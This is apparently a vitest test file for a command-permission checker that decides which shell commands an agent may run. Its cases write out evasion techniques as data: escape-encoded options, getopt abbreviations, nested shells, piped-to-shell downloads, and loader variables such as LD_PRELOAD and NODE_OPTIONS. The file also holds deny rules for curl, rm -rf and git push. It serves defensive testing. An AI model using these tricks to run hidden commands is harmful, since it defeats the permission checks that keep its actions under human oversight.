import { describe, it } from "vitest";
import { parsePolicy } from "../../src/policy/load.ts";
import type { Policy } from "../../src/policy/types.ts";
import { decideEachByRules, denyListPolicy, testPolicy, toolPolicy } from "./commands-fixture.ts";
import { auditDir, decideEach, issueExample, permissive } from "./workspaces.ts";

/*
 * Commands that would run code the words do not show: shells and wrappers, options and variables that load
 * or run code, scripts read from a file or the input. Pure cases are decided by the rules alone (the
 * fixture's file rules: reads anything but .env, writes only under src/); the others in a real workspace.
 * Each adversarial case says what `bash -c COMMAND` (GNU bash 5.2) really does; all were run to confirm it.
 */

describe("ANSI-C quoting ($'…') decoded differently from bash", () => {
  /*
   * bash understands `\x{HH…}` in $'…' (`$'\x{65}'` is `e`); the checker keeps `\x{65}` as literal text.
   * bash stores an octal escape as one byte (`\400` is 256 & 0xff = NUL, which ends the word: `$'ab\400cd'`
   * is `ab`); the checker decodes it as U+0100 and keeps the rest of the word.
   * So the checker sees an unknown option where find/git see -exec/--output.
   */
  decideEachByRules(testPolicy, [
    // find gets `-exec sh -c id ;` and runs `sh -c id` once per file (allowed by "find **").
    ["find . $'-\\x{65}xec' sh -c id \\;", "deny"],
    // find gets `-exec sh -c 'curl x' ;`: runs curl, and the deny rule "curl **" never sees it.
    ["find . $'-exec\\400' sh -c 'curl x' \\;", "deny"],
    ["find . $'-\\x{64}elete'", "deny"],
    // git gets `diff --output=.git/x`: writes the diff into the protected .git folder (allowed by "git diff **").
    ["git diff $'--\\x{6f}utput=.git/x'", "deny"],
    // git gets `diff --output .git/y` (the NUL ends the first word).
    ["git diff $'--output\\400' .git/y", "deny"],
    ["git log $'--\\x{6f}utput=README.md'", "deny"],
  ]);

  // Deny rules miss the disguise too: under default allow these run `rm -rf x`, `git push origin main`, `curl x`.
  decideEachByRules(denyListPolicy, [
    ["$'\\x{72}m' -rf x", "deny"],
    ["git $'\\x{70}ush' origin main", "deny"],
    ["git $'push\\400' origin main", "deny"],
    ["curl$'\\400' https://example.com", "deny"],
  ]);
});

describe("find: `--` ends find's options, not its expression", () => {
  /*
   * GNU find reads `--` as the end of its options (-H, -L, -P, -D, -O); the expression after it still runs.
   * The hardening check stops reading at `--`, so -delete and -fprint pass "find **".
   * bash -c 'find -- a -delete' deletes a and everything under it; `find -- . -fprint F` writes F.
   */
  decideEachByRules(testPolicy, [
    ["find -- . -delete", "deny"],
    ["find -- . -fprint .git/config", "deny"],
    ["find -- . -fls README.md", "deny"],
    ["find -- . -fprintf .git/HEAD x", "deny"],
  ]);
});

describe("getopt spellings the hardening list does not read", () => {
  decideEachByRules(toolPolicy, [
    // `--i` is a unique abbreviation of sed's --in-place (the checker only reads abbreviations of 4+ characters):
    // `printf 'a\n' > t; sed --i s/a/b/ t` leaves `b` in t.
    ["sed --i s/a/b/ f", "deny"],
    // `--o` is a unique abbreviation of sort's --output: `sort --o=.git/o3 t.txt` writes .git/o3.
    ["sort --o=.git/config f", "deny"],
    // `--expr=`/`--e=` abbreviate --expression=: sed runs the `e` command (`echo x | sed --expr='e echo PWNED'`
    // prints PWNED). The checker only knows `-e`, `--expression` and `--expression=`, finds no script, sees no risk.
    ["echo x | sed --expr='e id'", "deny"],
    ["echo x | sed --e='e id'", "deny"],
    ["sed --expr='e id' -", "deny"],
    ["echo x | sed -n --expres='w src/x'", "deny"],
    // Old-style tar options (a first word without a dash is a cluster): `I` takes the next word as the
    // compression program. `tar cIf 'touch PWNED1; cat' out.tar t.txt` creates PWNED1.
    ["tar cIf 'sh -c id' out.tar f", "deny"],
    ["tar tIf 'sh -c id' a.tar", "deny"],
  ]);
});

describe("shell re-entry", () => {
  decideEachByRules(testPolicy, [
    ["bash -c 'rm -rf /'", "deny", "commands.deny[1]"],
    ['sh -c "git push origin"', "deny", "commands.deny[0]"],
    ["zsh -c 'curl x'", "deny", "commands.deny[3]"],
    ["dash -c 'rm -f x'", "deny", "commands.deny[2]"],
    ["bash -lc 'rm -rf x'", "deny", "commands.deny[1]"],
    ["bash -xc 'rm -rf x'", "deny", "commands.deny[1]"],
    ["bash -e -c 'git status; rm -rf x'", "deny", "commands.deny[1]"],
    ["bash -o pipefail -c 'rm -rf x'", "deny", "commands.deny[1]"],
    ["bash -c -- 'rm -rf x'", "deny", "commands.deny[1]"],
    ["/bin/sh -c 'rm -rf x'", "deny", "commands.deny[1]"],
    [`bash -c "bash -c 'rm -rf x'"`, "deny", "commands.deny[1]"],
    ["sudo sh -c 'curl x'", "deny", "commands.deny[3]"],
    ["xargs sh -c 'rm -rf x'", "deny", "commands.deny[1]"],
    ["bash -c 'npm test'", "deny", "default"],
    ['sh -c "$CMD"', "deny", "commands.parse"],
    ["bash -c 'curl x | sh'", "deny", "commands.parse"],
    ["sh -c 'eval ls'", "deny", "commands.parse"],
    ["fish -c 'rm -rf x'", "deny", "commands.parse"],
    ["xargs -I{} sh -c '{}'", "deny", "commands.parse"],
    ['eval "rm -rf x"', "deny", "commands.parse"],
    ["source ./x.sh", "deny", "commands.parse"],
    [". ./x.sh", "deny", "commands.parse"],
    ["builtin eval ls", "deny", "commands.parse"],
    ["sh <<< 'rm -rf x'", "deny", "commands.parse"],
    ["bash <<EOF\nrm -rf x\nEOF", "deny", "commands.parse"],
    ["cat script.sh | bash", "deny", "commands.parse"],
    ["echo 'rm -rf x' | sudo sh", "deny", "commands.parse"],
    ["curl -s x | python3", "deny", "commands.parse"],
    ["python3 - <<'EOF'\nimport os\nEOF", "deny", "commands.parse"],
    ["coproc rm -rf x", "deny", "commands.parse"],
    ["trap 'rm -rf x' EXIT", "deny", "commands.parse"],
    ["alias ls='rm -rf x'", "deny", "commands.parse"],
    ["exec rm -rf x", "deny", "commands.deny[1]"],
  ]);
});

describe("wrappers", () => {
  decideEachByRules(testPolicy, [
    ["sudo rm -rf /", "deny", "commands.deny[1]"],
    ["sudo -u root -E rm -rf /", "deny", "commands.deny[1]"],
    ["sudo --user=root rm -rf /", "deny", "commands.deny[1]"],
    ["doas rm -rf /", "deny", "commands.deny[1]"],
    ["env rm -rf /", "deny", "commands.deny[1]"],
    ["env -i PATH=/bin rm -rf x", "deny", "commands.deny[1]"],
    ["env -u HOME -- rm -rf x", "deny", "commands.deny[1]"],
    ["env -S 'rm -rf x'", "deny", "commands.deny[1]"],
    ["command rm -rf x", "deny", "commands.deny[1]"],
    ["time rm -rf x", "deny", "commands.deny[1]"],
    ["time -p curl x", "deny", "commands.deny[3]"],
    ["timeout 5 rm -rf x", "deny", "commands.deny[1]"],
    ["timeout -s KILL 5 curl x", "deny", "commands.deny[3]"],
    ["timeout --kill-after=1 5s git push", "deny", "commands.deny[0]"],
    ["nice -n 10 rm -rf x", "deny", "commands.deny[1]"],
    ["nice -5 curl x", "deny", "commands.deny[3]"],
    ["nohup curl x", "deny", "commands.deny[3]"],
    ["stdbuf -oL curl x", "deny", "commands.deny[3]"],
    ["stdbuf -o L -e 0 curl x", "deny", "commands.deny[3]"],
    ["ionice -c2 -n7 rm -rf x", "deny", "commands.deny[1]"],
    ["setsid -f curl x", "deny", "commands.deny[3]"],
    ["xargs rm -rf", "deny", "commands.deny[1]"],
    ["ls | xargs rm", "deny", "commands.deny[1]"],
    ["find . -print0 | xargs -0 -n1 rm -f", "deny", "commands.deny[1]"],
    ["sudo env A=1 nice -n 5 timeout 9 rm -rf x", "deny", "commands.deny[1]"],
    ["sudo git push", "deny", "commands.deny[0]"],
    ["sudo npm test", "deny", "commands.wrapper"],
    ["time npm test", "deny", "commands.wrapper"],
    ["timeout 60 npm test", "deny", "commands.wrapper"],
    ["env npm test", "deny", "commands.wrapper"],
    ["xargs echo", "deny", "commands.wrapper"],
  ]);
});

describe("assignments", () => {
  decideEachByRules(testPolicy, [
    ["FOO=1 npm test", "deny", "default"],
    ["PAGER='sh -c x' git log", "deny", "default"],
    ["GIT_PAGER=cat git log", "deny", "default"],
    ["GIT_SSH_COMMAND='curl x' git status", "deny", "default"],
    ["LD_PRELOAD=./x.so ls", "deny", "default"],
    ["PATH=.:$PATH ls", "deny", "default"],
    ["NODE_OPTIONS='--require ./x.js' npm test", "deny", "default"],
    ["BASH_ENV=./x.sh npm test", "deny", "default"],
    ["LANG=$X npm test", "deny", "default"],
    ["LANG=$(curl x) npm test", "deny", "commands.deny[3]"],
    ["FOO=1 rm -rf x", "deny", "commands.deny[1]"],
    ["A=1 B=2 git push", "deny", "commands.deny[0]"],
    ["X=1", "deny", "default"],
    ["a=1; npm test", "deny", "default"],
    ["export PATH=.; ls", "deny", "default"],
    ["LC_MESSAGES=C TZ=UTC git log -1", "allow", "commands.allow[4]"],
  ]);
});

describe("executable paths", () => {
  decideEachByRules(testPolicy, [
    ["/bin/rm -rf x", "deny", "commands.deny[1]"],
    ["/usr/bin/curl x", "deny", "commands.deny[3]"],
    ["./rm -rf x", "deny", "commands.deny[1]"],
    ["\\rm -rf x", "deny", "commands.deny[1]"],
    ['"rm" -rf x', "deny", "commands.deny[1]"],
    ["r'm' -rf x", "deny", "commands.deny[1]"],
    // A numeric escape makes the word unreadable, so the program counts as unknown: every deny rule matches it.
    ["$'\\x72m' -rf x", "deny", "commands.deny[0]"],
    ["/usr/bin/git status", "deny", "default"],
    ["\\git status", "deny", "default"],
    ['"git" status', "deny", "default"],
    ["./node_modules/.bin/vitest run", "deny", "default"],
    ["$(echo rm) -rf x", "deny"],
    ["${RM:-rm} -rf x", "deny"],
    ["{rm,-rf,x}", "deny"],
    ['$"rm" -rf x', "deny"],
  ]);
});

describe("flag spellings", () => {
  decideEachByRules(testPolicy, [
    ["rm -rf x", "deny", "commands.deny[1]"],
    ["rm -fr x", "deny", "commands.deny[1]"],
    ["rm -r -f x", "deny", "commands.deny[1]"],
    ["rm x -r", "deny", "commands.deny[1]"],
    ["rm -vr x", "deny", "commands.deny[1]"],
    ["rm -Rf x", "deny", "commands.deny[2]"],
    ["rm -R x", "deny", "default"],
    ["rm --recursive x", "deny", "default"],
    ["rm -- -r", "deny", "default"],
    ["git --no-pager push origin", "deny", "commands.deny[0]"],
    ["git -C /tmp/repo push", "deny", "commands.deny[0]"],
    ["git --git-dir=.git push", "deny", "commands.deny[0]"],
    ["git push --force", "deny", "commands.deny[0]"],
    ["git push -f origin main", "deny", "commands.deny[0]"],
    ["git   push", "deny", "commands.deny[0]"],
    ['git "push" origin', "deny", "commands.deny[0]"],
    ["git pu''sh", "deny", "commands.deny[0]"],
    ["git p\\ush", "deny", "commands.deny[0]"],
    ["curl", "deny", "commands.deny[3]"],
    ["curl -sSL https://x", "deny", "commands.deny[3]"],
  ]);
});

describe("9. options that run code or follow links", () => {
  decideEach(permissive, [
    ["rsync -e 'sh -c x' src /tmp/s", "deny", /remote shell/],
    ["rsync -ave 'sh -c x' src /tmp/s", "deny", /remote shell/],
    ["rsync --rsync-path='sh -c x' src /tmp/s", "deny", /runs the given program/],
    ["zip -TT 'sh -c x' /tmp/a.zip README.md", "deny", /runs the given command/],
    ["zip --unzip-command=sh /tmp/a.zip README.md", "deny", /runs the given command/],
    ["zip -@ /tmp/a.zip", "deny", /from its input/],
    ["rsync -L src/env-link /tmp/x", "deny", "files.read.deny[0]"],
    ["rsync -a --copy-unsafe-links src /tmp/s", "deny", "files.read.deny[0]"],
    // -k follows links to folders; a link to a file is counted too (stricter).
    ["rsync -ak src /tmp/s", "deny", "files.read.deny[0]"],
    ["rsync -ak src/deep /tmp/s", "allow"],
    ["rsync -a --copy-links src /tmp/s", "deny", "files.read.deny[0]"],
    ["rsync -a src/deep /tmp/s", "allow"],
    ["zip -r /tmp/a.zip src/deep", "allow"],
  ], auditDir);
});

describe("11. env -S", () => {
  decideEach(issueExample, [
    ["env -S 'npm test'", "deny", "commands.wrapper"],
    ["env -iS'npm test'", "deny", "commands.wrapper"],
    ["env --split-string='npm test'", "deny", "commands.wrapper"],
  ], auditDir);
});

const interpreters: Policy = {
  ...testPolicy,
  commands: {
    allow: ["bash", "sh", "bash *", "python3", "python3 *", "node", "cat *", "wc -l", "exec", "bash -c *"].map((pattern) => ({ pattern })),
    deny: testPolicy.commands.deny,
  },
};

describe("5. an interpreter reading its program from a `<` file is refused", () => {
  decideEachByRules(interpreters, [
    ["bash < src/x.sh", "deny", "commands.parse"],
    ["python3 < x.py", "deny", "commands.parse"],
    ["node < x.js", "deny", "commands.parse"],
    ["< x.sh bash", "deny", "commands.parse"],
    ["bash -s < x.sh", "deny", "commands.parse"],
    ["bash - < x.sh", "deny", "commands.parse"],
    ["bash <> x.sh", "deny", "commands.parse"],
    ["bash <&3 3< x.sh", "deny", "commands.parse"],
    ["{ bash; } < x.sh", "deny", "commands.parse"],
    ["(sh) < x.sh", "deny", "commands.parse"],
    ["exec < x.sh; bash", "deny", "commands.parse"],
    ["builtin exec < x.sh; bash", "deny", "commands.parse"],
    ["command exec 0<&3 3< x.sh; sh", "deny", "commands.parse"],
    // tree-sitter reads `0<` as an argument `0` and a redirection: bash reads descriptor 0 from the file.
    ["bash 0< x.sh", "deny", "commands.parse"],
    ["python3 0<<< 'print(1)'", "deny", "commands.parse"],
    // A shell passes its input on to the commands of its script.
    ["bash -c 'python3' < x.py", "deny", "commands.parse"],
    ["cat x.py | bash -c 'python3'", "deny", "commands.parse"],
    ["bash -c 'bash -c sh' < x.sh", "deny", "commands.parse"],
    // A script named as an argument, or a program that is not an interpreter, reads data from the file.
    ["python3 script.py < input.txt", "allow"],
    ["bash x.sh < input.txt", "allow"],
    ["wc -l < x.sh", "allow"],
    ["bash -c 'cat -' < x.sh", "allow"],
  ]);
});

describe("editors and sqlite3 run commands from their input", () => {
  const runnersPolicy = parsePolicy(
    'version: 1\nfiles:\n  read: {allow: ["**"], deny: ["**/.env"]}\n  write: {allow: ["**"], deny: [".github/workflows/**"]}\ncommands:\n  allow: ["npx vitest run **", "npm test -- **", "npm --prefix * test -- **", "pnpm --filter * test -- **", "grep **", "rg **", "gzip **", "uniq **", "split **", "sponge **", "ed **", "sqlite3 **", "printf **", "cat *", "iconv **"]\n',
    "runners.yaml",
  );
  decideEach(() => runnersPolicy, [
    // Editors and sqlite3 run commands from their input (`!cmd`, `.shell`).
    ["printf '!id\\n' | ed -s README.md", "deny", "commands.parse"],
    ["sqlite3 db.sqlite < x.sql", "deny", "commands.parse"],
    ["sqlite3 db.sqlite 'select 1' < /dev/null", "allow"],
  ]);
});

describe("options and variables that load code are refused unless a rule names them", () => {
  const loaders = parsePolicy(
    `version: 1
default: deny
files:
  read: {allow: ["**"], deny: ["**/.env"]}
  write: {allow: ["src/**"]}
commands:
  allow: ["npm test **", "npm run lint **", "node **", "npx vitest run **", "mocha **", "env NODE_OPTIONS=--require=./setup.js npm test", "node --import=./register.mjs app.js"]
`,
    "loaders.yaml",
  );
  decideEach(loaders, [
    ["npm test -- --require ./x.js", "deny", "commands.hardening"],
    ["npm test -- --import=./x.mjs", "deny", "commands.hardening"],
    ["npx vitest run --loader ./x.mjs", "deny", "commands.hardening"],
    ["npm test --node-options=--require=./x.js", "deny", "commands.hardening"],
    ["npm test -- --node-options.a=--require=./x.js", "deny", "commands.hardening"],
    ["node -r ./x.js app.js", "deny", "commands.hardening"],
    ["node --experimental-loader=./x.mjs app.js", "deny", "commands.hardening"],
    ["mocha -r ./x.js", "deny", "commands.hardening"],
    ["env NODE_OPTIONS=--require=./evil.js npm test", "deny"],
    // Named by a rule: allowed.
    ["env NODE_OPTIONS=--require=./setup.js npm test", "allow"],
    ["node --import=./register.mjs app.js", "allow"],
    // After the script, an option is the script's own.
    ["node app.js -r x", "allow"],
    ["npm test", "allow"],
  ], auditDir);

  const open = parsePolicy('version: 1\ndefault: allow\nfiles:\n  read: {allow: ["**"], deny: ["**/.env"]}\n  write: {allow: ["**"]}\n', "open.yaml");
  decideEach(open, [
    // Under an allow default, a command's own assignment would otherwise pass.
    ["NODE_OPTIONS=--require=./x.js npm test", "deny", "commands.hardening"],
    ["npm_config_script_shell=./x.sh npm test", "deny", "commands.hardening"],
    ["BASH_ENV=./x.sh bash -c 'echo'", "deny", "commands.hardening"],
    ["export NODE_OPTIONS=--require=./x.js; npm test", "deny", "commands.hardening"],
    ["GIT_PAGER=cat git log", "allow"],
    ["NODE_ENV=test npm test", "allow"],
  ], auditDir);
});

describe("long options are read as the program abbreviates them", () => {
  // GNU getopt_long and git's parse-options take a unique prefix; npm's nopt takes one of its config keys.
  decideEach(permissive, [
    ["grep --rec KEY .", "deny", "files.read.deny[0]"],
    ["npm test --scr=./x.sh", "deny", /script-shell/],
    ["npm test --script-sh=./x.sh", "deny", /script-shell/],
    ["npm test --userc=./x.npmrc", "deny", /userconfig/],
    ["git diff --ext", "deny", /ext-diff/],
    ["git diff --text", "allow"],
    ["rsync --rsync-p='sh -c x' src /tmp/s", "deny", /runs the given program/],
  ], auditDir);
});
